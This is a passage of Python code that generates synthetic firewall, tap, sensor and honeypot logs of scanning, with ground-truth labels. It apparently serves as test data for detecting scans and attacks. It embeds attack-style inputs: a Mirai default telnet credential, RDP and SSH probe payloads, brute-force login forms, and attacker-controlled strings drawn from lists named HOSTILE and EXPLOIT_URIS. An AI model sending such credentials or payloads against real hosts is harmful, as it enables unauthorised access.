    truth = _truth(crawler, "scan", "slow_vertical")
    crawler_syn = {"ttl": 248, "ip_id": ip_id, "df": False, "window": 1024, "opts": 0}
    d.fw.append(_records(ts, crawler, sc.VPS, "tcp", 61000, ports, truth, **crawler_syn))
    start = d.at_local(rng.uniform(20, 23))[0]
    countries = list(sc.SCANNER_BLOCKS)
    sweep_syn = {"ttl": 51, "ip_id": 54321, "df": False, "window": 1024, "opts": 0}
    for i in range(60):  # one coordinated sweep of a port range, four ports per source
        src = d.pool.country(rng, countries[i % len(countries)])[0]
        ts = start + i * 2 + np.arange(4) * 7.0 + rng.random(4)
        ports, truth = 1000 + i * 4 + np.arange(4), _truth(src, "scan", "distributed")
        d.fw.append(_records(ts, src, sc.VPS, "tcp", 40000 + i, ports, truth, **sweep_syn))


# --- the research organizations (firewall, tap, sensor, honeypot) --------------------------------


def _sensor_payload(port: int, org: sc.Org) -> bytes:
    if port in (8080, 8443):
        return f"GET / HTTP/1.1\r\nHost: {sc.SENSOR_IP}:{port}\r\nUser-Agent: {org.user_agent}\r\nAccept: */*\r\n\r\n".encode()
    if port == 2222:
        return (org.ssh_banner or "SSH-2.0-Go").encode() + b"\r\n"
    if port == 3389:
        return (
            bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=nmap\r\n" + bytes.fromhex("0100080003000000")
        )
    if port == 5900:
        return b"RFB 003.008\n"
    return b""


@dataclass
class _Probes:
    """Some of one scanner's probes: when, which transport and port, and the header fields that vary per probe."""

    src: str
    ts: np.ndarray
    proto: np.ndarray
    port: np.ndarray
    ip_id: np.ndarray
    sport: np.ndarray
    truth: dict

    def subset(self, sel: np.ndarray) -> _Probes:
        """The probes `sel` picks."""
        return _Probes(
            self.src, self.ts[sel], self.proto[sel], self.port[sel], self.ip_id[sel], self.sport[sel], self.truth
        )


def research(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Every organization's hosts probe our addresses in sweeps at its own hours, pace and ports, with its fingerprints."""
    home_hosts = _obj(sc.HOME_SERVERS + sc.HOME_CLIENTS)
    for org in sc.ORGS:
        for src in sc.org_hosts(org):
            _org_host(d, rng, org, src, scale, home_hosts)
        for src in sc.org_v6_hosts(org):  # a few IPv6 sweeps of the site's v6 web server
            n = max(4, int(org.probes * scale * 0.2))
            ts = np.sort(d.at_local(_hours(rng, n, org.peak_hours, 0.8)))
            ports, sports = rng.choice(org.tcp_ports, size=n), rng.integers(32768, 61000, size=n)
            truth = _truth(src, "scan", "research", org.name)
            dst = _repeat(sc.HOME_V6_WEB, n)
            d.pcap.append(syn_probes(rng, ts, src, dst, ports, sports, org.ttl, 0, org.window, org.tcp_options, truth))


def _org_host(d: Day, rng: np.random.Generator, org: sc.Org, src: str, scale: float, home_hosts: np.ndarray) -> None:
    """One organization host's probes of the day, each recorded by the one vantage point it reached."""
    n = max(4, int(org.probes * scale * rng.uniform(0.7, 1.3)))
    sweeps = -(-n // org.burst)
    starts = np.sort(d.at_local(_hours(rng, sweeps, org.peak_hours, 0.8)))
    ts = (
        starts[:, None] + np.arange(org.burst)[None, :] * org.gap_s * rng.uniform(0.8, 1.2, (sweeps, org.burst))
    ).ravel()[:n]
    ts = np.sort(np.minimum(ts, d.t0 + 86_399.5))
    proto = np.where(
        (rng.random(n) < 0.2) & bool(org.udp_ports),
        "udp",
        np.where(org.icmp & (rng.random(n) < 0.05), "icmp", "tcp"),
    )
    port = np.where(proto == "udp", rng.choice(org.udp_ports or (0,), size=n), rng.choice(org.tcp_ports, size=n))
    port = np.where(proto == "icmp", 8, port)
    # Our listener and honeypot only see the ports an organization scans anyway.
    sensor_ports = [p for p in sc.SENSOR_TCP if p in org.tcp_ports]
    hp_ssh = 22 in org.tcp_ports and bool(org.ssh_banner)
    shares = np.array([0.55, 0.2, 0.12 if sensor_ports else 0.0, 0.13 if 80 in org.tcp_ports or hp_ssh else 0.0])
    where = rng.choice(4, size=n, p=shares / shares.sum())
    where = np.where((proto != "tcp") & (where >= 2), 0, where)  # datagrams and pings: firewall or tap
    ip_id = rng.integers(1, 65535, size=n) if org.ip_id is None else np.full(n, org.ip_id)
    sport = rng.integers(32768, 61000, size=n)
    probes = _Probes(src, ts, proto, port, ip_id, sport, _truth(src, "scan", "research", org.name))
    fw, tap, sensor, honeypot = (where == v for v in range(4))
    if fw.any():
        d.fw.append(_org_firewall(org, probes.subset(fw)))
    d.pcap += _org_tap(rng, org, probes.subset(tap), home_hosts)
    if sensor.any():
        d.sensor.append(_org_sensor(rng, org, probes.subset(sensor), sensor_ports))
    if honeypot.any():
        d.honeypot.append(_org_honeypot(rng, org, probes.subset(honeypot), hp_ssh))


def _org_firewall(org: sc.Org, p: _Probes) -> pl.DataFrame:
    """An organization's probes of the Internet-facing server, as its firewall logs them."""
    plen = np.where(p.proto == "udp", 24, np.where(p.proto == "icmp", 8, 0))
    header = {
        "ttl": org.ttl,
        "ip_id": p.ip_id,
        "df": org.tcp_options == 2,
        "window": org.window,
        "opts": org.tcp_options,
    }
    return _records(p.ts, p.src, sc.VPS, p.proto, p.sport, p.port, p.truth, code=0, **header, plen=plen)


def _org_tap(rng: np.random.Generator, org: sc.Org, p: _Probes, home_hosts: np.ndarray) -> list[pl.DataFrame]:
    """An organization's probes of the monitored network (random hosts), as the tap records them."""
    frames = []
    tcp, udp, icmp = (p.proto == proto for proto in ("tcp", "udp", "icmp"))
    if tcp.any():
        s = p.subset(tcp)
        dst = _pick(rng, home_hosts, len(s.ts))
        frames.append(
            syn_probes(rng, s.ts, s.src, dst, s.port, s.sport, org.ttl, s.ip_id, org.window, org.tcp_options, s.truth)
        )
    if udp.any():
        s = p.subset(udp)
        dst = _pick(rng, home_hosts, len(s.ts))
        header = {"ttl": org.ttl, "ip_id": s.ip_id, "df": False}
        frames.append(_records(s.ts, s.src, dst, "udp", s.sport, s.port, s.truth, **header, plen=24))
    if icmp.any():
        s = p.subset(icmp)
        dst = _pick(rng, home_hosts, len(s.ts))
        ident, header = int(rng.integers(1, 65535)), {"ttl": org.ttl, "ip_id": s.ip_id, "df": False}
        frames.append(_records(s.ts, s.src, dst, "icmp", ident, 8, s.truth, code=0, **header, plen=8))
    return frames


def _org_sensor(rng: np.random.Generator, org: sc.Org, p: _Probes, sensor_ports: list[int]) -> pl.DataFrame:
    """An organization's connections to our listener, on the ports of it that the organization scans."""
    ports = rng.choice(sensor_ports, size=len(p.ts))
    payload = [_sensor_payload(int(port), org) for port in ports]
    duration = rng.gamma(2, 0.2, len(p.ts))
    return _records(p.ts, p.src, sc.SENSOR_IP, "tcp", p.sport, ports, p.truth, payload=payload, duration=duration)


def _org_honeypot(rng: np.random.Generator, org: sc.Org, p: _Probes, hp_ssh: bool) -> pl.DataFrame:
    """An organization's web requests and SSH banner grabs at the honeypot."""
    k = len(p.ts)
    ssh = (rng.random(k) < (0.2 if 80 in org.tcp_ports else 1.0)) & hp_ssh
    event = {"app": np.where(ssh, "ssh", "http"), "action": np.where(ssh, "banner", "request"), "method": "GET"}
    request = {"uri": _pick(rng, org.uris, k), "ua": org.user_agent, "asn": org.asn, "as_org": org.as_org or None}
    payload = [(org.ssh_banner + "\r\n").encode() if s else None for s in ssh]
    dport = np.where(ssh, 22, 80)
    return _records(p.ts, p.src, sc.HONEYPOT_IP, "tcp", p.sport, dport, p.truth, **event, **request, payload=payload)


# --- the listener and the honeypot: bots and brute forcers ---------------------------------------


def _bot_times(
    d: Day, rng: np.random.Generator, count: tuple[int, int], latest: float, gap: tuple[float, float]
) -> np.ndarray:
    """One bot's attempts: `count` of them, from a start before `latest` s into the day, `gap` s apart."""
    k = int(rng.integers(*count))
    return np.minimum(d.t0 + rng.random() * latest + np.cumsum(rng.uniform(*gap, k)), d.t0 + 86_399.5)


def bots(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Login guessers and exploit senders, each on one port of one host: hostile, but not port scans."""
    for src in d.pool.anywhere(rng, int(60 * scale))[0]:
        d.honeypot.append(_ssh_guesser(d, rng, src))
    for j, src in enumerate(d.pool.anywhere(rng, int(80 * scale))[0]):
        d.honeypot.append(_web_exploiter(d, rng, src, j))
    for j, src in enumerate(d.pool.anywhere(rng, int(90 * scale))[0]):
        d.sensor.append(_sensor_bot(d, rng, src, j))


def _ssh_guesser(d: Day, rng: np.random.Generator, src: str) -> pl.DataFrame:
    """SSH logins with common user names at the honeypot."""
    ts = _bot_times(d, rng, (5, 60), 80_000, (2, 20))
    users = _pick(rng, SSH_USERS, len(ts))
    sports = rng.integers(32768, 61000, size=len(ts))
    payload = [f"SSH-2.0-libssh_0.9.6\r\nuser={u}".encode() for u in users]
    return _records(
        ts, src, sc.HONEYPOT_IP, "tcp", sports, 22, _benign(src), app="ssh", action="login", payload=payload
    )


def _web_exploiter(d: Day, rng: np.random.Generator, src: str, j: int) -> pl.DataFrame:
    """Exploit URIs and login forms at the honeypot's web server; every few bots send attacker-controlled text."""
    ts = _bot_times(d, rng, (3, 30), 85_000, (0.5, 8))
    k = len(ts)
    uris = [EXPLOIT_URIS[int(i)] for i in rng.integers(len(EXPLOIT_URIS), size=k)]
    if j % 4 == 0:  # attacker-controlled text, stored verbatim and escaped when shown
        uris = [u if i % 2 else "/cgi-bin/" + HOSTILE[(i + j) % len(HOSTILE)] for i, u in enumerate(uris)]
    ua = HOSTILE[j % len(HOSTILE)] if j % 5 == 0 else "Mozilla/5.0 zgrab/0.x" if j % 2 else "python-requests/2.31.0"
    sports = rng.integers(32768, 61000, size=k)
    method = np.where(rng.random(k) < 0.3, "POST", "GET")
    payload = [b"user=admin&pass=admin" if i % 3 == 0 else None for i in range(k)]
    request = {"app": "http", "action": "request", "method": method, "uri": uris, "ua": ua, "payload": payload}
    return _records(ts, src, sc.HONEYPOT_IP, "tcp", sports, 80, _benign(src), **request)


def _sensor_bot(d: Day, rng: np.random.Generator, src: str, j: int) -> pl.DataFrame:
    """Amplification probes to one UDP service, or Mirai-style telnet logins or RDP cookies on one port, at our listener."""
    ts = _bot_times(d, rng, (3, 40), 85_000, (1, 30))
    k = len(ts)
    if j % 3 == 2:
        port = int(rng.choice(sc.SENSOR_UDP))
        sports = rng.integers(1024, 65535, size=k)
        payload = bytes.fromhex("0001000000000000")
        return _records(ts, src, sc.SENSOR_IP, "udp", sports, port, _benign(src), payload=payload, duration=0.0)
    port = 2323 if j % 3 == 0 else 3389
    payload = b"root\r\nxc3511\r\n" if port == 2323 else _sensor_payload(3389, sc.ORGS[0])
    if j % 7 == 0:
        payload = HOSTILE[j % len(HOSTILE)].encode()
    sports = rng.integers(32768, 61000, size=k)
    duration = rng.gamma(2, 0.5, k)
    return _records(ts, src, sc.SENSOR_IP, "tcp", sports, port, _benign(src), payload=payload, duration=duration)
